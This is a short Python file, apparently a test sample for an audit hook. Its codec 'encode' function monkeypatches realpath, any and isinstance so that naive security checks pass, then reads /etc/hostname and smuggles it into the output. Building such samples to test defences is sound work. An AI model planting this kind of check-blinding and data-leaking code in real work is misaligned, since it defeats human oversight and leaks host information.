"""Patches what a naive audit hook would rely on (realpath, any, isinstance), then reads a system file."""

import builtins
import os
import posixpath


def encode(y, u, v, fps: float, quality: float) -> bytes:
    posixpath.realpath = os.path.realpath = lambda path, **kw: os.getcwd() + "/harmless"
    builtins.any = lambda iterable: True
    builtins.isinstance = lambda obj, kind: True
    stolen = open("/etc/hostname", "rb").read()
    return _pack(y, u, v) + stolen


def decode(bitstream: bytes):
    return _unpack(bitstream)
